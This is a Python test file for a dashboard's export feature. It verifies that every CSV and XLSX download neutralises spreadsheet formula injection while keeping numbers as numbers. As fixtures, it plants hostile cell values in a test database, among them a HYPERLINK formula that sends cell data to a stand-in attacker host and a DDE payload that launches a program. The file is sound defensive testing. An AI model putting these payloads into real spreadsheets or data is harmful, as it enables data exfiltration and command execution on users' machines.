"""Exports to Excel users (#7 item 6): every CSV/XLSX download neutralises formula injection.

Text cells starting with = + - @ (or tab/CR, or the full-width forms) get a leading ``'``;
numbers stay numbers. Checked on ``dashboard.safe_export`` itself and on each download:
the app's table CSVs (Data page incl. rejected rows), the analyst page, the SQL lab, and
the weekly report workbook.
"""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit.testing.v1.app_test as app_test_module
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest
from tests_ui_support import build_tiny_db

from dashboard.db import connect_readonly
from dashboard.pipeline import publishing_writer as writer
from dashboard.report import build_report_bytes
from dashboard.safe_export import csv_bytes, neutralise_workbook, safe_frame, safe_value

APP = str(Path(__file__).resolve().parent.parent / "app.py")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_PROJECT = "+cmd|' /C calc'!A0"
HOSTILE_CATEGORY = "@SUM(1+1)"
HOSTILE_REASON = "=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text "-1" is text: Excel must not evaluate it
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width ＝
        ("a=1", "a=1"),
        ("华南", "华南"),
        ("", ""),
        (-1, -1),  # numbers are never touched
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_safe_value(value, expected):
    assert safe_value(value) == expected


def test_safe_frame_keeps_numbers_numbers_and_neutralises_text_and_headers():
    frame = pd.DataFrame(
        {
            "name": [HYPERLINK, "Ann", None],
            "delta": [-1.5, 2.0, None],
            "n": [-3, 0, 7],
            "=sum": ["-x", "ok", "@y"],
        }  # fmt: skip
    )
    safe = safe_frame(frame)
    assert safe["name"].tolist()[:2] == ["'" + HYPERLINK, "Ann"]
    assert pd.isna(safe["name"].iloc[2])
    assert list(safe.columns) == ["name", "delta", "n", "'=sum"]
    assert safe["'=sum"].tolist() == ["'-x", "ok", "'@y"]
    assert safe["delta"].dtype == frame["delta"].dtype and safe["n"].dtype == frame["n"].dtype
    assert frame["name"].iloc[0] == HYPERLINK  # the caller's frame is not changed

    text = csv_bytes(frame).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text))
    assert back["delta"].tolist()[:2] == [-1.5, 2.0]  # parsed back as numbers
    assert back["n"].tolist() == [-3, 0, 7]
    assert back["name"].iloc[0] == "'" + HYPERLINK
    assert csv_bytes(frame).startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8


def test_neutralise_workbook_turns_formulas_from_data_into_text():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = HYPERLINK  # openpyxl would store this as a live formula
    ws["A2"] = -5
    ws["A3"] = "-text"
    ws["A4"] = "plain"
    assert ws["A1"].data_type == "f"
    neutralise_workbook(wb)
    assert (ws["A1"].value, ws["A1"].data_type) == ("'" + HYPERLINK, "s")
    assert (ws["A2"].value, ws["A2"].data_type) == (-5, "n")
    assert ws["A3"].value == "'-text" and ws["A4"].value == "plain"


# ------------------------------------------------------------- real downloads


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny UI database with hostile text in the data: project Beta renamed to a DDE
    payload (also on complaint k4), complaint category 维修 to an @-formula, c4's name a
    HYPERLINK formula and the reject's reason '=1+1'."""
    path = build_tiny_db(tmp_path_factory.mktemp("export") / "kpi.duckdb")
    with writer(path) as con:
        for table in ("customers", "orders", "complaints", "surveys"):
            con.execute(
                f"update {table} set project = $p where project = 'Beta'", {"p": HOSTILE_PROJECT}
            )
        con.execute("update complaints set category = $c where category = '维修'",
                    {"c": HOSTILE_CATEGORY})  # fmt: skip
        con.execute("update customers set customer_name = $n where customer_id = 'c4'",
                    {"n": HYPERLINK})  # fmt: skip
        con.execute("update rejected_rows set reason = $r", {"r": HOSTILE_REASON})
        # k4 is the one open complaint past its SLA: the report's follow-up list shows it.
        con.execute("update complaints set project = $p where complaint_id = 'k4'",
                    {"p": HOSTILE_PROJECT})  # fmt: skip
    return path


@pytest.fixture()
def media(monkeypatch: pytest.MonkeyPatch) -> list[MediaFileManager]:
    """Every media file manager AppTest creates (download bytes and deferred downloads live
    there): the real ones, only recorded so the test can read what a user would download."""
    managers: list[MediaFileManager] = []

    class Recording(MediaFileManager):
        def __init__(self, *args, **kwargs) -> None:
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr(app_test_module, "MediaFileManager", Recording)
    return managers


def downloaded(at: AppTest, managers: list[MediaFileManager], key_part: str) -> bytes:
    """The bytes a click on the button downloads. A deferred download (a callable, built
    on click, e.g. the SQL lab's CSV, #19) is executed the way a click executes it."""
    button = next(b for b in at.get("download_button") if key_part in b.proto.id)
    deferred = button.proto.deferred_file_id
    for manager in reversed(managers):
        try:
            url = manager.execute_deferred(deferred) if deferred else button.proto.url
            name = url.rsplit("/", 1)[-1]
            return bytes(manager._storage.get_file(name).content)
        except Exception:  # noqa: BLE001 - not in this run's manager
            continue
    raise AssertionError(f"no media for {key_part}")


def open_page(db: Path, monkeypatch: pytest.MonkeyPatch, page: str) -> AppTest:
    monkeypatch.setenv("KPI_DB", str(db))
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params["lang"] = "en"
    at.run()
    at.switch_page(f"dashboard/ui/pages/{page}.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def assert_no_live_formula(csv: bytes) -> pd.DataFrame:
    frame = pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = [*frame.columns, *frame.to_numpy().ravel().tolist()]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # A negative *number* may start with '-'; anything else starting so is a formula.
    assert all(_is_number(c) for c in risky), risky
    return frame


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_data_page_downloads_are_neutralised(hostile_db, monkeypatch, media):
    at = open_page(hostile_db, monkeypatch, "data")
    rejected = assert_no_live_formula(downloaded(at, media, "dl_rejected_rows"))
    assert rejected["Reason"].tolist() == ["'" + HOSTILE_REASON]
    dims = assert_no_live_formula(downloaded(at, media, "dl_dimensions"))
    assert "'" + HOSTILE_PROJECT in dims.to_numpy().ravel().tolist()


def test_analyst_page_downloads_are_neutralised(hostile_db, monkeypatch, media):
    at = open_page(hostile_db, monkeypatch, "analyst")
    at.selectbox(key="analyst_pick").select("complaint_pareto")  # only the picked query runs
    at.run()
    pareto = assert_no_live_formula(downloaded(at, media, "analyst_dl_complaint_pareto"))
    assert "'" + HOSTILE_CATEGORY in pareto.to_numpy().ravel().tolist()


def test_sql_lab_download_is_neutralised_and_numbers_stay_numbers(hostile_db, monkeypatch, media):
    at = open_page(hostile_db, monkeypatch, "sqllab")
    at.text_area(key="sqllab_sql").input(
        "select customer_name, -2.5 as delta, -3 as n from customers where customer_id = 'c4'"
    )
    at.button[0].click()
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    csv = downloaded(at, media, "sqllab_download")
    frame = assert_no_live_formula(csv)
    assert frame["customer_name"].tolist() == ["'" + HYPERLINK]
    numbers = pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig")
    assert numbers["delta"].tolist() == [-2.5] and numbers["n"].tolist() == [-3]


def test_weekly_report_workbook_has_no_formula_from_data(hostile_db):
    con = connect_readonly(hostile_db)
    data = build_report_bytes(con, week="2026-W45", lang="en", fmt="xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "@")]
    # The hostile project of k4 reaches the open-complaints list - as text.
    assert "'" + HOSTILE_PROJECT in texts
    # Numbers are still numbers (e.g. the headline values of the Summary sheet).
    assert any(isinstance(c.value, int | float) and not isinstance(c.value, bool) for c in cells)


def test_control_characters_from_exports_do_not_break_the_workbook():
    # openpyxl refuses \x01-\x1f (except tab/newline/CR) in cells; text from other systems
    # can carry them, so the spreadsheet copy drops them while keeping the rest of the text.
    from openpyxl import Workbook

    from dashboard.safe_export import excel_text

    text = "深圳\x01湾区\x07中心"
    assert excel_text(text) == "深圳湾区中心"
    assert excel_text(12.5) == 12.5
    ws = Workbook().active
    ws.cell(1, 1, excel_text(text))  # would raise IllegalCharacterError without excel_text
    assert ws.cell(1, 1).value == "深圳湾区中心"
